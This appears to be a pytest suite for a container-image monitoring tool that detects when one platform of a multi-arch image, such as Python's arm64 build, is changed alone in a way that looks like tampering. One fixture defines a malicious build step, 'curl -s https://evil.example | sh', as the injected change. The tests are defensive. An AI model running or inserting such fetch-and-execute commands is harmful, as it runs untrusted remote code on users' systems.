"""Every platform of an index: what moves alone is compared, what moves together where it may be.

Each test is two nights over a double: a scan, a push, a scan.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from tagwatch import open_site
from tagwatch.api import scan_async
from tagwatch.image.manifest import OCI_INDEX, OCI_MANIFEST
from tagwatch.image.platform import Platform
from tagwatch.publish.interface import PublishContext
from tagwatch.publish.machine import render
from tests.image_builder import Built, attest, index, spdx
from tests.image_builder import run as step
from tests.official import ARM64, debian, python
from tests.registry.doubles.hub import HubDouble
from tests.registry.doubles.warehouse import MORNING, Double, Pushed
from tests.registry.harness import AT
from tests.walk.command import Workplace

PATH, VERSION = "library/python", "3.12.3"
HOSTS = {"distribution": "registry.example", "hub": "docker.io"}
EVIL = (step("curl -s https://evil.example | sh", **{"bin/sh": "evil"}),)


def image(day: int, platform: Platform, version: str = VERSION, *, evil: bool = False) -> Built:
    """The official Python of a day for a platform; `evil`: with a step more."""
    base = debian(day, platform=platform)
    return python(day, version, base=base, extra=EVIL if evil else ())


AMD64 = Platform(os="linux", architecture="amd64")
AMD = image(0, AMD64)
AMD_REBUILT = image(1, AMD64)
ARM = image(0, ARM64)
ARM_REBUILT = image(1, ARM64)
ARM_EVIL = image(1, ARM64, evil=True)


@dataclass(slots=True)
class Nights:
    """A double, and a folder with a ledger from which the command asks it."""

    double: Double
    place: Workplace
    requests: list[dict[str, int]] = field(default_factory=list)

    @property
    def host(self) -> str:
        return HOSTS[self.double.kind]

    def push(self, built: Built, tag: str = VERSION, path: str = PATH) -> None:
        """Serve `built` under a tag; what was served before stays, as registries keep it."""
        shelf = self.double.warehouse
        for document in built.documents.values():
            if document.media_type in (OCI_INDEX, OCI_MANIFEST):
                shelf.manifests[document.digest] = (document.media_type, document.raw)
            else:
                shelf.blobs[document.digest] = document.raw
        shelf.repositories.setdefault(path, {})[tag] = Pushed(digest=built.digest, at=MORNING)

    def forget(self, built: Built) -> None:
        """Let the registry collect a manifest that no tag serves any more."""
        del self.double.warehouse.manifests[built.digest]

    def configure(
        self, *, defaults: str = "", budget: int | None = None, tag: str = VERSION
    ) -> None:
        """Name the image in a Dockerfile."""
        url = self.double.url
        catalogue = f", catalogue_endpoint: '{url}'" if self.double.kind == "hub" else ""
        limit = f", budget: {budget}" if budget is not None else ""
        self.place.write(
            "tagwatch.yaml",
            "database: tagwatch.db\nsources: [Dockerfile]\n"
            f"policy: {{defaults: {{{defaults}}}}}\n"
            f"registries: {{{self.host}: {{endpoint: '{url}', kind: {self.double.kind}, "
            f"credential: anonymous{catalogue}{limit}}}}}\n",
        )
        self.place.write("Dockerfile", f"FROM {self.host}/{PATH}:{tag}\n")

    async def scan(self, code: int | None = None, *, at: datetime | None = None) -> Any:
        """One night in this process; what `scan --format json` prints."""
        at = at or AT + timedelta(days=len(self.requests))
        site = open_site(
            self.place.folder / "tagwatch.yaml", environment=self.place.environment, at=at
        )
        result = (await scan_async(site)).result
        ended = result.exit_code(site.policy.fail_on, on_unavailable=site.policy.on_unavailable)
        assert code in (None, ended), [one.message for one in result.findings]
        self.requests.append(dict(self.double.night()))
        return json.loads(render(result, PublishContext(version="test")))

    async def command(self, code: int) -> Any:
        """One night by the real command, today."""
        done = await self.place.run("scan", "--format", "json")
        assert done.code == code, f"{done.out[:4000]}{done.err}"
        return done.json


def moved_to(answer: Any) -> dict[str, Any]:
    (change,) = answer["changes"]
    assert isinstance(change, dict)
    return change


def told(answer: Any, rule: str = "tag-replaced") -> list[tuple[str, str]]:
    """Severity and message of each finding of a rule."""
    return [(one["severity"], one["message"]) for one in answer["findings"] if one["rule"] == rule]


@asynccontextmanager
async def nights_at(kind: str, folder: Path) -> AsyncIterator[Nights]:
    double = HubDouble() if kind == "hub" else Double()
    async with double.serving():
        yield Nights(double, Workplace(folder, {"HOME": str(folder)}))


@pytest.fixture(params=HOSTS)
async def nights(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[Nights]:
    async with nights_at(request.param, tmp_path) as found:
        found.configure()
        yield found


async def test_tampering_with_a_platform_that_nobody_audits_is_found(nights: Nights) -> None:
    nights.push(index(AMD, ARM))
    await nights.command(0)
    nights.push(index(AMD, ARM_EVIL))
    answer = await nights.command(1)
    change = moved_to(answer)
    assert (change["verdict"], change["platforms"]) == ("replaced", ["linux/arm64"])
    assert change["diff"]["new"]["platform"] == "linux/arm64", "what it shows is what was done"
    ((severity, message),) = told(answer)
    assert severity == "error"
    assert "linux/arm64, which moved while linux/amd64 did not: " in message


async def test_a_platform_that_is_rebuilt_later_is_explained(nights: Nights) -> None:
    """Official images come from one builder a platform, and land at different hours."""
    nights.push(index(AMD, ARM))
    await nights.scan(code=0)
    nights.push(index(AMD_REBUILT, ARM))
    change = moved_to(await nights.scan(code=0))
    assert (change["verdict"], change["platforms"]) == ("rebuilt", ["linux/amd64"])
    nights.push(index(AMD_REBUILT, ARM_REBUILT))
    answer = await nights.scan(code=0)
    change = moved_to(answer)
    assert (change["verdict"], change["platforms"]) == ("rebuilt", ["linux/arm64"])
    assert change["reason"].startswith("linux/arm64: still version 3.12.3")
    assert told(answer) == []


async def test_a_platform_that_lands_later_has_the_version_it_came_from(nights: Nights) -> None:
    """`latest` is the new version for amd64 first: that arm64 follows is no replacement."""
    nights.configure(tag="latest")
    old, new = (python_of(day, version) for day, version in enumerate(("3.12.3", "3.12.4")))
    nights.push(index(*old), tag="latest")
    nights.push(index(*old), tag="3.12.3")
    await nights.scan(code=0)
    nights.push(index(new[0], old[1]), tag="latest")
    change = moved_to(await nights.scan())
    assert (change["verdict"], change["platforms"]) == ("upgraded", ["linux/amd64"])
    nights.push(index(*new), tag="latest")
    nights.push(index(*new), tag="3.12.4")
    change = moved_to(await nights.scan())
    assert (change["verdict"], change["platforms"]) == ("upgraded", ["linux/arm64"])
    assert (change["version_before"], change["version_after"]) == ("3.12.3", "3.12.4")


def python_of(day: int, version: str) -> tuple[Built, Built]:
    return image(day, AMD64, version), image(day, ARM64, version)


@pytest.mark.parametrize("tag", [VERSION, "3.12"])
async def test_what_can_not_be_compared_is_a_finding(tmp_path: Path, tag: str) -> None:
    """On the Hub nothing was read of arm64 at first sight, and its registry has it no more."""
    async with nights_at("hub", tmp_path) as nights:
        nights.configure(tag=tag)
        nights.push(index(AMD, ARM), tag=tag)
        await nights.scan(code=0)
        nights.push(index(AMD, ARM_EVIL), tag=tag)
        nights.forget(ARM)
        answer = await nights.scan(code=0)
    assert moved_to(answer)["verdict"] == "unknown"
    ((severity, message),) = told(answer)
    assert severity == "warning"
    assert message.endswith(
        ": linux/arm64 moved while another platform did not, and could not be compared (old: the "
        "manifest is gone from its registry); moving alone is how tampering looks"
    )
    assert answer["complete"] is True, "the image itself was read"


async def test_where_pulls_are_free_what_a_platform_was_is_read_at_first_sight(
    tmp_path: Path,
) -> None:
    async with nights_at("distribution", tmp_path) as nights:
        nights.configure()
        nights.push(index(AMD, ARM))
        await nights.scan(code=0)
        nights.push(index(AMD, ARM_EVIL))
        nights.forget(ARM)
        assert moved_to(await nights.scan(code=1))["verdict"] == "replaced"


async def test_a_budget_that_does_not_last_is_a_finding_too(tmp_path: Path) -> None:
    """Two pulls: the new index, and then one too few for arm64 of both nights."""
    async with nights_at("hub", tmp_path) as nights:
        nights.configure(budget=2)
        nights.push(index(AMD, ARM))
        await nights.scan(code=0)
        nights.push(index(AMD, ARM_EVIL))
        answer = await nights.scan(code=0)
    ((severity, message),) = told(answer)
    assert severity == "warning"
    assert "1 left of the budget of 2 manifest requests a run: too few for an image of 2" in message
    assert nights.requests[1].get("manifest") == 1


def remarks(answer: Any) -> list[str]:
    return [one["message"] for one in answer["remarks"]]


async def test_what_moves_with_the_audited_ones_is_compared(nights: Nights) -> None:
    nights.push(index(AMD, ARM))
    await nights.scan(code=0)
    nights.push(index(AMD_REBUILT, ARM_EVIL))
    answer = await nights.scan(code=1)
    change = moved_to(answer)
    assert (change["verdict"], change["platforms"]) == ("replaced", ["linux/arm64"])
    assert remarks(answer) == []


async def test_a_short_quota_goes_to_the_audited_ones(tmp_path: Path) -> None:
    """Three pulls: the index and amd64; the one that is left does not pay for arm64 of two days."""
    async with nights_at("hub", tmp_path) as nights:
        nights.configure(budget=3)
        nights.push(index(AMD, ARM))
        await nights.scan(code=0)
        nights.push(index(AMD_REBUILT, ARM_EVIL))
        answer = await nights.scan(code=0)
        assert moved_to(answer)["platforms"] == ["linux/amd64"]
        assert told(answer) == []
        assert answer["complete"] is True
        assert remarks(answer) == [
            "1 platform of 1 tag moved with those that are audited and was not compared: the pull "
            "quota went to the audited ones; later runs do not make up for it"
        ]
        later = await nights.scan(code=0)
    assert later["changes"] == []
    assert remarks(later) == []
    assert nights.requests[2].get("manifest") is None


async def test_the_policy_says_which_platforms_are_compared(nights: Nights) -> None:
    """It narrows what moves together, not what moves alone."""
    nights.configure(defaults="audited: [linux/amd64]")
    nights.push(index(AMD, ARM))
    await nights.scan(code=0)
    nights.push(index(AMD_REBUILT, ARM_REBUILT))
    answer = await nights.scan(code=0)
    assert moved_to(answer)["platforms"] == ["linux/amd64"]
    assert remarks(answer) == []
    nights.push(index(AMD_REBUILT, ARM_EVIL))
    assert moved_to(await nights.scan(code=1))["platforms"] == ["linux/arm64"]


async def test_a_policy_that_audits_all_judges_all(nights: Nights) -> None:
    nights.configure(defaults="audited: all")
    nights.push(index(AMD, ARM))
    answer = await nights.scan(code=0)
    assert nights.requests[0]["manifest"] == 3, "an index, and both"
    nights.push(index(AMD_REBUILT, ARM_REBUILT))
    change = moved_to(await nights.scan(code=0))
    assert change["platforms"] == ["linux/amd64", "linux/arm64"]
    assert answer["complete"] is True


@pytest.mark.parametrize("change", ["attested", "added", "dropped", "the same"])
async def test_what_is_no_platform_s_move_costs_and_says_nothing(
    nights: Nights, change: str
) -> None:
    s390x = image(0, Platform(os="linux", architecture="s390x"))
    nights.push(index(AMD, ARM))
    await nights.scan(code=0)
    later = {
        "attested": index(AMD, ARM, attest(AMD, spdx(AMD, {"pkg:deb/debian/a": "1"}))),
        "added": index(AMD, ARM, s390x),
        "dropped": index(AMD),
        "the same": index(ARM, AMD),
    }
    nights.push(later[change])
    answer = await nights.scan()
    verdicts = {"attested": "attestation-only", "the same": "metadata-only"}
    assert moved_to(answer)["verdict"] == verdicts.get(change, "platforms-changed")
    assert told(answer) == []
    free = change == "added" and nights.double.kind != "hub"
    assert nights.requests[1]["manifest"] == 1 + free, "the new index; and what is new, if free"


async def test_a_diff_shows_what_one_platform_did_whatever_was_read_before(
    nights: Nights,
) -> None:
    """The finding says to compare the two: a fresh ledger shows the same as that of the scan."""
    nights.push(index(AMD, ARM), tag="old")
    nights.push(index(AMD, ARM_EVIL), tag=VERSION)
    sides = [f"{nights.host}/{PATH}:{tag}" for tag in ("old", VERSION)]
    fresh = await nights.place.run("diff", *sides, "--format", "json")
    assert fresh.code == 1, fresh.err
    assert fresh.json["new"]["platform"] == "linux/arm64"
    assert len(fresh.json["steps"]["added"]) == 1
    await nights.scan(at=datetime.now(UTC))
    again = await nights.place.run("diff", *sides, "--format", "json")
    assert again.json == fresh.json
    one = await nights.place.run("diff", *sides, "--platform", "linux/amd64", "--format", "json")
    assert one.json["new"]["platform"] == "linux/amd64"
    assert one.json["steps"]["added"] == []


async def test_a_diff_is_the_same_before_and_after_a_scan(nights: Nights) -> None:
    """A scan reads every platform where pulls are free; a diff is of what the policy audits."""
    nights.push(index(AMD, ARM), tag="old")
    nights.push(index(AMD_REBUILT, ARM_EVIL), tag=VERSION)
    sides = [f"{nights.host}/{PATH}:{tag}" for tag in ("old", VERSION)]
    fresh = await nights.place.run("diff", *sides, "--format", "json")
    nights.place.write("Dockerfile", "".join(f"FROM {side}\n" for side in sides))
    await nights.scan(at=datetime.now(UTC))
    again = await nights.place.run("diff", *sides, "--format", "json")
    assert [again.json["verdict"], again.json["reason"]] == [
        fresh.json["verdict"],
        fresh.json["reason"],
    ]


@pytest.mark.parametrize("first", ["resolve", "check"])
async def test_what_another_command_saw_first_is_read_when_it_has_moved(
    nights: Nights, first: str
) -> None:
    """`resolve` asks for names alone: what the tag served is read by its digest, night after."""
    nights.push(index(AMD, ARM))
    named = {"resolve": f"{nights.host}/{PATH}:{VERSION}", "check": "Dockerfile"}
    assert (await nights.place.run(first, named[first])).code == 0
    nights.push(index(AMD, ARM_EVIL))
    answer = await nights.command(1)
    assert moved_to(answer)["platforms"] == ["linux/arm64"]
    assert [severity for severity, _ in told(answer)] == ["error"]
